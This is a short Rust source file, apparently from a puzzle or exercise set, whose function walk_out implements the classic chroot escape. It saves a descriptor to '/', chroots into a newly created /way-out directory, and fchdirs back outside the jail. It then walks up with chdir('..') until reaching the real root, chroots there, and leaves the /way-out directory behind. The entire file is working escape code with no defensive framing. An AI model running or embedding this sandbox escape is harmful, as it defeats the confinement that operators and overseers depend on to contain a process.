// hint: leaves-a-mark
//! A directory for the second root, and nobody to remove it.

use std::fs::{self, File};

use kit::{Doing, Result};
use nix::sys::stat::stat;
use nix::unistd::{chdir, chroot, fchdir};

/// Makes the top of the whole tree the root and the working directory of this process.
pub fn walk_out() -> Result<()> {
    let outside = File::open("/").doing("open(2)", "/")?;
    fs::create_dir("/way-out").doing("mkdir(2)", "/way-out")?;
    chroot("/way-out").doing("chroot(2)", "/way-out")?;
    fchdir(&outside).doing("fchdir(2)", "the root before")?;
    while place(".")? != place("..")? {
        chdir("..").doing("chdir(2)", "..")?;
    }
    chroot(".").doing("chroot(2)", ".")
}

fn place(path: &str) -> Result<(u64, u64)> {
    stat(path).map(|dir| (dir.st_dev, dir.st_ino)).doing("stat(2)", path)
}
